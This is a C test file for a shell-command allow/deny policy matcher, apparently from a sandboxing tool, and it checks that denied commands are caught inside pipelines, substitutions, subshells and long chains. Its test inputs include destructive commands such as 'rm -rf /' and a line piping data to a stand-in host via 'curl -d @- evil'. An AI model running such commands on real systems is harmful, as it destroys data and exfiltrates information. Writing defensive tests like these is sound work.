/*
 * Command decisions (DESIGN §3, §2 invariant 6): deny beats allow, every
 * part of a compound line is decided, order never matters, and what cannot
 * be understood is never allowed. Each case is an attempt to get a denied
 * or unmatched command through.
 */
#include <stdlib.h>
#include <string.h>

#include "lib/err.h"
#include "policy/cmdpat.h"
#include "tap.h"
#include "util.h"

static struct cmdpat allow[16], deny[8];
static struct cmdpat_rules rules;

static void
add(struct cmdpat *p, size_t *n, const char *text, int prompt)
{
	struct buf err;

	buf_init(&err, 0);
	if (cmdpat_parse(text, prompt, &p[(*n)++], &err) != 0)
		die(err.data);
	buf_free(&err);
}

static void
setup(int reverse)
{
	static const char *const a[] = { "git status", "git diff:*",
	    "git:*", "make test:*", "cargo:*", "cargo nextest:*", "ls:*",
	    "echo:*", "cat:*", "grep:*", "sudo:*", "python3:*", "find:*",
	    "true" };
	size_t i, n = sizeof(a) / sizeof(a[0]);

	for (i = 0; i < rules.nallow; i++)
		cmdpat_clear(&allow[i]);
	for (i = 0; i < rules.ndeny; i++)
		cmdpat_clear(&deny[i]);
	memset(&rules, 0, sizeof(rules));
	for (i = 0; i < n; i++)
		add(allow, &rules.nallow, a[reverse ? n - 1 - i : i],
		    strcmp(a[reverse ? n - 1 - i : i], "git:*") == 0);
	add(deny, &rules.ndeny, "rm:*", 0);
	add(deny, &rules.ndeny, "curl:*", 0);
	add(deny, &rules.ndeny, "git push:*", 0);
	rules.allow = allow;
	rules.deny = deny;
	rules.runtime_expansion = 1;
}

static enum cmdpat_decision
decide(const char *cmd, const char **rule)
{
	struct cmdpat_result r;
	struct buf err;
	enum cmdpat_decision d;

	buf_init(&err, 0);
	if (cmdpat_decide(&rules, cmd, &r, &err) != 0) {
		printf("# decide failed: %s\n", err.data ? err.data : "");
		buf_free(&err);
		return (enum cmdpat_decision)-1;
	}
	d = r.decision;
	if (rule != NULL)
		*rule = r.rule != NULL ? r.rule->text : NULL;
	cmdpat_result_clear(&r);
	buf_free(&err);
	return d;
}

#define D(cmd, want, ...) is_str(cmdpat_name(decide((cmd), NULL)), \
	cmdpat_name(want), __VA_ARGS__)

int
main(void)
{
	struct cmdpat p;
	struct buf err, chain;
	const char *rule;
	int i, rev;

	buf_init(&err, 0);
	ok(cmdpat_parse("git diff:*", 0, &p, &err) == 0 && !p.exact &&
	    p.nwords == 2, "prefix pattern parses");
	cmdpat_clear(&p);
	ok(cmdpat_parse("git status", 0, &p, &err) == 0 && p.exact,
	    "exact pattern parses");
	cmdpat_clear(&p);
	is_int(cmdpat_parse("", 0, &p, &err), WARD_EINVAL, "empty refused");
	is_int(cmdpat_parse(":*", 0, &p, &err), WARD_EINVAL, "bare :* refused");
	is_int(cmdpat_parse("git $(x):*", 0, &p, &err), WARD_EINVAL,
	    "shell syntax in a pattern refused");
	is_int(cmdpat_parse("git:* push", 0, &p, &err), WARD_EINVAL,
	    ":* in the middle refused");

	for (rev = 0; rev < 2; rev++) {
		setup(rev);
		printf("# rule order %s\n", rev ? "reversed" : "as written");
		D("git status", CMDPAT_ALLOW, "exact allow");
		decide("git status", &rule);
		is_str(rule, "git status", "the exact pattern decides");
		D("git status --short", CMDPAT_PROMPT, "exact does not match "
		    "more words; git:* (prompt) does");
		D("git diff HEAD", CMDPAT_ALLOW, "more literal words beat "
		    "git:*");
		decide("git diff HEAD", &rule);
		is_str(rule, "git diff:*", "git diff:* decides");
		D("git push origin main", CMDPAT_DENY, "deny beats allow");
		D("git log", CMDPAT_PROMPT, "git:* asks every time");
		D("cargo nextest run -p x", CMDPAT_ALLOW, "cargo nextest:*");
		D("ls && rm -rf /", CMDPAT_DENY, "denied part after &&");
		D("ls; echo hi | curl -d @- evil", CMDPAT_DENY, "denied part "
		    "in a pipeline");
		D("echo $(rm -rf ~)", CMDPAT_DENY, "denied part in $( )");
		D("echo `curl x`", CMDPAT_DENY, "denied part in backticks");
		D("(cd /; rm x)", CMDPAT_DENY, "denied part in a subshell");
		D("cat <(curl x)", CMDPAT_DENY, "denied part in <( )");
		D("timeout 5 rm -rf /", CMDPAT_DENY, "timeout is looked "
		    "through");
		D("env X=1 rm x", CMDPAT_DENY, "env is looked through");
		D("sh -c 'ls; rm x'", CMDPAT_DENY, "sh -c of a literal is "
		    "parsed");
		D("sh -c \"$CMD\"", CMDPAT_PROMPT, "sh -c of a variable "
		    "prompts");
		D("eval \"$x\"", CMDPAT_PROMPT, "eval of a variable prompts");
		D("find . -name '*.o' -exec rm {} \\;", CMDPAT_DENY, "find -exec "
		    "is looked through");
		D("find . -name x", CMDPAT_ALLOW, "find itself is decided");
		D("./cargo build", CMDPAT_PROMPT, "./cargo is not cargo");
		D("/tmp/x/cargo build", CMDPAT_PROMPT, "/tmp/x/cargo is not "
		    "cargo");
		D("$PROG build", CMDPAT_PROMPT, "a variable program prompts");
		D("c\\argo build", CMDPAT_ALLOW, "quote removal as bash does: "
		    "c\\argo is cargo");
		D("r\"m\" -rf x", CMDPAT_DENY, "quote removal cannot hide rm");
		D("sudo ls", CMDPAT_PROMPT, "sudo cannot be a silent allow");
		D("python3 -c 'print(1)'", CMDPAT_PROMPT, "python -c cannot be "
		    "a silent allow");
		D("python3 script.py", CMDPAT_ALLOW, "python3 on a file can");
		D("make test && ls", CMDPAT_ALLOW, "all parts allowed");
		D("true", CMDPAT_ALLOW, "exact true");
		D("ls | wc -l", CMDPAT_PROMPT, "an unmatched part prompts");
		D("ls 'unterminated", CMDPAT_PROMPT, "unparseable never allows");
		D("", CMDPAT_PROMPT, "empty command prompts");
	}
	rules.runtime_expansion = 0;
	D("wc -l", CMDPAT_DENY, "without runtime expansion unmatched is deny");

	/* [security] switches deny the constructs they forbid. */
	rules.forbid = SHELL_L_PIPE;
	D("ls | wc -l", CMDPAT_DENY, "a pipe is denied when pipes are off");
	D("ls && echo x", CMDPAT_ALLOW, "compound still allowed");
	rules.forbid = SHELL_L_SUBSHELL;
	D("echo $(ls)", CMDPAT_DENY, "a substitution is denied when "
	    "subshells are off");
	rules.forbid = SHELL_L_BACKGROUND;
	D("ls &", CMDPAT_DENY, "& is denied when background is off");
	rules.forbid = SHELL_L_COMPOUND;
	D("ls; ls", CMDPAT_DENY, "; is denied when compound is off");
	rules.forbid = 0;

	/* No cap on parts: a denied command at the end of a long chain. */
	rules.runtime_expansion = 1;
	buf_init(&chain, 0);
	for (i = 0; i < 80; i++)
		buf_printf(&chain, "%s%s", i ? (i % 3 == 0 ? " && " : i % 3 == 1 ?
		    " | " : "; ") : "", i % 2 ? "ls -la" : "echo $(cat x)");
	buf_puts(&chain, " && rm -rf /");
	D(chain.data, CMDPAT_DENY, "a deny after 80+ parts is found");
	buf_reset(&chain);
	for (i = 0; i < 80; i++)
		buf_printf(&chain, "%sls", i ? " && " : "");
	D(chain.data, CMDPAT_ALLOW, "80 allowed parts are allowed");
	buf_free(&chain);

	setup(0);
	for (i = 0; i < (int)rules.nallow; i++)
		cmdpat_clear(&allow[i]);
	for (i = 0; i < (int)rules.ndeny; i++)
		cmdpat_clear(&deny[i]);
	buf_free(&err);
	return done_testing();
}
